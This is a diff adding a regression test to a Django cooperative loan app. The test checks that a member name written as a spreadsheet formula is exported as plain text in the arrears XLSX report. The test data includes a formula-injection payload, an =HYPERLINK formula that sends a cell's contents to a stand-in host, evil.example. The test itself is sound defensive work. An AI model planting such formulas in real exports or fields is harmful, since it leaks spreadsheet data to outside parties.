@@ -11,7 +11,7 @@ from django.urls import reverse
 from koperasi.core.navigation import NAVIGATION
 from koperasi.tenancy.context import cooperative_context
 from members.loans.models import Loan, LoanProduct, LoanStatus
-from members.models import MemberStatus
+from members.models import Member, MemberStatus
 from members.savings.models import SavingsAccount, SavingsProduct, SavingsTransaction
 from tests.factories.members import ActiveMemberFactory, LoanFactory, disbursed_loan, funded_account
 from tests.factories.tenancy import user_with_role
@@ -227,6 +227,21 @@ def test_arrears_page_and_xlsx(client, coop, staff):
     sheet = load_workbook(io.BytesIO(response.content)).active
     rows = [row for row in sheet.iter_rows(values_only=True) if row and row[0] == late.number]
     assert rows and rows[0][4] > 200  # days past due
+
+
+def test_a_member_named_like_a_formula_is_plain_text_in_the_arrears_xlsx(client, coop, staff):
+    """The hole: a member called =HYPERLINK(...) became a live formula in the arrears spreadsheet."""
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
+    with cooperative_context(coop.pk):
+        late = disbursed_loan("1200000", 12, on=datetime.date(2026, 1, 10))
+        Member.objects.filter(pk=late.member_id).update(name=evil)
+    client.force_login(staff)
+    response = client.get(url("arrears", coop), {"format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    (cell,) = [row[2] for row in sheet.iter_rows() if row[0].value == late.number]
+    assert (cell.value, cell.data_type) == ("'" + evil, "s")
 
 
 def test_loan_list_uses_a_constant_number_of_queries(client, coop, staff, django_assert_max_num_queries):
